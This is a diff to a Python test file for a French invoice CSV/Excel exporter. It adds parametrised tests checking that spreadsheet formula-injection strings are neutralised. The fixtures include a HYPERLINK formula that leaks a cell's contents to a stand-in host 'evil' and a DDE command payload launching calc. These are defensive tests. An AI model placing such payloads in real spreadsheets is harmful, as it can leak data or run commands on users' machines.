@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import subprocess
 import sys
@@ -147,6 +148,49 @@ def test_csv_is_french_spreadsheet_friendly_and_neutralised() -> None:
     assert lines[2] == "Région;-2,25;02/01/2026"
 
 
+# Text a spreadsheet still reads as a formula after trimming, or in full-width form.
+HOSTILE_CELLS = (
+    '=HYPERLINK("http://evil/?"&A2,"x")',
+    ' =HYPERLINK("http://evil/?"&A2,"x")',
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  \n @SUM(A1:A9)",
+    '＝HYPERLINK("http://evil/")',
+    "＋1+1",
+    "－1+1",
+    "＠SUM(A1)",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "=cmd|' /C calc'!A0",
+)
+
+
+@pytest.mark.parametrize("text", HOSTILE_CELLS)
+def test_hostile_text_is_neutralised_in_excel(text: str) -> None:
+    cell = _workbook([(text, *ROW[1:])])["Factures"]["A2"]
+    assert cell.data_type == "s"  # XML stores a carriage return as a line feed
+    assert cell.value.replace("\r", "\n") == "'" + text.replace("\r", "\n")
+
+
+@pytest.mark.parametrize("text", HOSTILE_CELLS)
+def test_hostile_text_is_neutralised_in_csv(text: str) -> None:
+    data = dataframe_to_csv_bytes(pd.DataFrame({"Message": [text]}), tz=GUADELOUPE)
+    [row] = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))[1:]
+    assert row == ["'" + text]
+
+
+@pytest.mark.parametrize("value", [-1234.5, Decimal("-1234.5"), "-1234,5"])
+def test_a_negative_amount_stays_a_number_in_csv_and_excel(value: object) -> None:
+    data = dataframe_to_csv_bytes(pd.DataFrame({"Montant": [value]}), tz=GUADELOUPE)
+    assert data.decode("utf-8-sig").splitlines()[1] == "-1234,5"
+    cell = _workbook([("Avoir", value, *ROW[2:])])["Factures"]["B2"]
+    assert cell.value in (-1234.5, "-1234,5")
+    if not isinstance(value, str):
+        assert cell.data_type == "n" and cell.value == -1234.5
+
+
 def test_carriage_return_text_is_neutralised() -> None:
     cell = _workbook([("\r=1+1", *ROW[1:])])["Factures"]["A2"]
     assert cell.data_type == "s" and cell.value.startswith("'")
@@ -177,9 +221,13 @@ def test_large_export_streams_in_flat_memory(tmp_path: Path) -> None:
     root = Path(__file__).resolve().parent.parent
     done = subprocess.run(
         [sys.executable, str(script), str(out)],
-        capture_output=True, text=True, cwd=root, env={"PYTHONPATH": str(root), "PATH": "/usr/bin:/bin"},
-        check=True, timeout=300,
-    )  # fmt: skip
+        capture_output=True,
+        text=True,
+        cwd=root,
+        env={"PYTHONPATH": str(root), "PATH": "/usr/bin:/bin"},
+        check=True,
+        timeout=300,
+    )
     rows, peak_mb = (int(part) for part in done.stdout.split())
     assert rows == 100_000
     assert peak_mb < 300, f"peak {peak_mb} MB"
